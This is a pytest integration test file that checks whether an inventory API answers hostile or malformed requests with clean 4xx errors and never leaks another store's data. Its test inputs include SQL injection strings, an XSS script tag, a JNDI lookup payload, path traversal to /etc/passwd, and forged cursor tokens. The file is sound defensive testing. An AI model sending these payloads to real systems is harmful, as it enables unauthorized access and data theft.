"""Hostile or broken requests get a 4xx with a message in the stable error shape: never a 500,
never a stack trace, never another store's data."""

from __future__ import annotations

import base64
import json
from urllib.parse import quote

import pytest
from inventory.models import RESERVED_STORE_NAMES

from tests.builders import api_claims
from tests.integration.api.conftest import ADMIN, BERLIN_MANAGER, ApiWorld

pytestmark = pytest.mark.integration

INJECTIONS = [
    "' OR '1'='1",
    'Berlin" OR Store <> "',
    "Store = :store",
    "<script>alert(1)</script>",
    "${jndi:ldap://example.invalid/a}",
    "../../etc/passwd",
    "%00",
    "Karachi#",
    "*",
]


def assert_error(answer: object, status: int | tuple[int, ...]) -> dict[str, object]:
    statuses = status if isinstance(status, tuple) else (status,)
    assert answer.status in statuses, answer.body  # type: ignore[attr-defined]
    error = answer.body["error"]  # type: ignore[attr-defined]
    assert set(error) == {"status", "code", "message"}
    assert error["status"] == answer.status  # type: ignore[attr-defined]
    assert error["message"]
    assert "Traceback" not in json.dumps(answer.body)  # type: ignore[attr-defined]
    return error  # type: ignore[no-any-return]


def no_karachi(body: object) -> None:
    assert "Karachi" not in json.dumps(body, ensure_ascii=False)


# -- who is asking ---------------------------------------------------------------------------


def test_a_request_without_verified_claims_is_401(shared_lab: ApiWorld) -> None:
    for path in ("/stores", "/alerts", "/uploads", "/stores/Berlin/items", "/openapi.json"):
        error = assert_error(shared_lab.get(path, None), 401)
        assert error["code"] == "unauthorized"


def test_claims_without_a_subject_are_401(shared_lab: ApiWorld) -> None:
    assert_error(shared_lab.get("/stores", {"cognito:groups": "[admin]"}), 401)


@pytest.mark.parametrize("groups", ["[administrators]", "[notadmin]", "admins", "[Admin]", ""])
def test_only_the_exact_admin_group_grants_every_store(shared_lab: ApiWorld, groups: str) -> None:
    claims = {**api_claims("sly", stores=["Berlin"]), "cognito:groups": groups}

    assert [s["store"] for s in shared_lab.get("/stores", claims).body["stores"]] == ["Berlin"]
    assert_error(shared_lab.get("/stores/Karachi/items", claims), 403)


def test_a_reserved_name_in_the_stores_attribute_grants_nothing(shared_lab: ApiWorld) -> None:
    # Given a user whose Cognito attribute names "*" (set by an operator, or before it was refused)
    claims = {**api_claims("star"), "custom:stores": '["*","Berlin"]'}

    # Then they have Berlin, and nothing of head office: not its uploads, not every store
    assert [s["store"] for s in shared_lab.get("/stores", claims).body["stores"]] == ["Berlin"]
    assert_error(shared_lab.get("/stores/Karachi/items", claims), 403)
    uploads = shared_lab.get("/uploads", claims).body["uploads"]
    assert all(upload["store"] == "Berlin" for upload in uploads)


def test_a_malformed_stores_attribute_grants_nothing(shared_lab: ApiWorld) -> None:
    claims = {**api_claims("odd"), "custom:stores": '["Berlin", '}

    assert shared_lab.get("/stores", claims).body == {"stores": []}
    assert_error(shared_lab.get("/stores/Berlin/items", claims), 403)


# -- paths ------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", INJECTIONS)
def test_injection_strings_as_a_store_are_403_for_a_manager_and_404_for_an_admin(
    shared_lab: ApiWorld, name: str
) -> None:
    path = f"/stores/{quote(name, safe='')}/items"

    manager = shared_lab.get(path, BERLIN_MANAGER)
    admin = shared_lab.get(path, ADMIN)

    assert_error(manager, 400 if name in RESERVED_STORE_NAMES else 403)
    assert_error(admin, (400, 404))
    no_karachi(manager.body)


@pytest.mark.parametrize(
    ("raw", "status"),
    [
        ("B" * 5000, 400),  # far longer than any name
        ("%FF%FE", 400),  # not UTF-8
        ("Berlin%00", 400),  # a control character
        ("%20%20", 400),  # only spaces
        ("%252F", 403),  # a literal '%2F' in the name: a different store
        ("..%2F..%2FKarachi", 403),
        ("Berlin%2F..%2FKarachi", 403),
    ],
)
def test_malformed_or_traversing_store_names_are_4xx(shared_lab: ApiWorld, raw: str, status: int) -> None:
    answer = shared_lab.get(f"/stores/{raw}/items", BERLIN_MANAGER)

    assert_error(answer, status)
    no_karachi(answer.body)


def test_an_extra_path_segment_is_404_not_a_different_store(shared_lab: ApiWorld) -> None:
    # Without encoding, '/' splits the path: no route has that shape.
    assert_error(shared_lab.get("/stores/Berlin/Karachi/items", ADMIN), 404)
    assert_error(shared_lab.get("/stores/Berlin/items/extra/segments/history", ADMIN), 404)
    assert_error(shared_lab.get("/nothing-here", ADMIN), 404)


def test_history_item_names_are_checked_too(shared_lab: ApiWorld) -> None:
    assert_error(shared_lab.get("/stores/Berlin/items/" + "x" * 300 + "/history", BERLIN_MANAGER), 400)
    assert_error(shared_lab.get("/stores/Berlin/items/%C3%28/history", BERLIN_MANAGER), 400)


# -- query parameters -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "query",
    [
        {"limit": "0"},
        {"limit": "501"},
        {"limit": "-1"},
        {"limit": "abc"},
        {"limit": "1e3"},
        {"limit": "9" * 400},
        {"status": "OUT"},
        {"status": "all"},
        {"status": "out,low"},
        {"status": "' OR 1=1"},
        {"q": "x" * 201},
        {"cursor": "c" * 5000},
    ],
)
def test_out_of_range_or_mistyped_parameters_are_422_naming_the_parameter(
    shared_lab: ApiWorld, query: dict[str, str]
) -> None:
    error = assert_error(shared_lab.get("/stores/Berlin/items", ADMIN, query), 422)

    assert error["code"] == "invalid_parameter"
    assert f"`{next(iter(query))}`" in str(error["message"])


@pytest.mark.parametrize("q", INJECTIONS)
def test_injection_strings_as_a_search_find_nothing_and_reach_no_other_store(shared_lab: ApiWorld, q: str) -> None:
    answer = shared_lab.get("/stores/Berlin/items", BERLIN_MANAGER, {"q": q})

    assert answer.status == 200
    assert answer.body["items"] == []
    assert answer.body["next_cursor"] is None


def _forged(body: dict[str, object]) -> str:
    payload = base64.urlsafe_b64encode(json.dumps(body).encode()).rstrip(b"=").decode()
    return f"{payload}.{'A' * 43}"


@pytest.mark.parametrize(
    "cursor",
    [
        "garbage",
        "a.b",
        ".",
        "Zm9v.YmFy",
        "ümlaut.cursor",
        _forged({"v": 1, "s": "Berlin", "m": "all", "i": "Echo Dot"}),
        _forged({"v": 1, "s": "Karachi", "m": "all", "i": "Echo Dot"}),
        json.dumps({"Store": {"S": "Karachi"}, "Item": {"S": "A"}}),
    ],
)
def test_bad_or_forged_cursors_are_400(shared_lab: ApiWorld, cursor: str) -> None:
    answer = shared_lab.get("/stores/Berlin/items", BERLIN_MANAGER, {"cursor": cursor})

    assert assert_error(answer, 400)["code"] == "invalid_cursor"


def test_a_berlin_cursor_cannot_open_karachi_even_for_a_user_of_both(shared_lab: ApiWorld) -> None:
    both = api_claims("both", stores=["Berlin", "Karachi"])
    cursor = shared_lab.get("/stores/Berlin/items", both, {"limit": "1"}).body["next_cursor"]
    assert cursor

    answer = shared_lab.get("/stores/Karachi/items", both, {"cursor": cursor})

    assert assert_error(answer, 400)["code"] == "invalid_cursor"


@pytest.mark.parametrize("status", ["ok", "low,out", "", "OUT"])
def test_alerts_take_only_out_or_low(shared_lab: ApiWorld, status: str) -> None:
    assert_error(shared_lab.get("/alerts", ADMIN, {"status": status}), 422)


@pytest.mark.parametrize(
    "query",
    [{"from": "x" * 41}, {"from": "2026-02-30"}, {"to": "now"}, {"from": "'; DROP TABLE"}, {"from": "1732240000"}],
)
def test_bad_history_times_are_4xx(shared_lab: ApiWorld, query: dict[str, str]) -> None:
    assert_error(shared_lab.get("/stores/Berlin/items/Echo%20Plus/history", ADMIN, query), (400, 422))


@pytest.mark.parametrize(
    ("query", "status"),
    [
        ({"store": "x" * 201}, 422),
        ({"store": "Berlin\u0007"}, 400),
        ({"limit": "0"}, 422),
        ({"store": "Karachi"}, 403),
        ({"store": "*"}, 400),  # head office's uploads are listed by role, never by a store filter
    ],
)
def test_bad_upload_filters_are_4xx(shared_lab: ApiWorld, query: dict[str, str], status: int) -> None:
    answer = shared_lab.get("/uploads", BERLIN_MANAGER, query)

    assert_error(answer, status)
    no_karachi({k: v for k, v in answer.body.items() if k != "error"})


def test_errors_are_not_cached(shared_lab: ApiWorld) -> None:
    answer = shared_lab.get("/stores/Karachi/items", BERLIN_MANAGER)

    assert answer.headers["Cache-Control"] == "no-store"
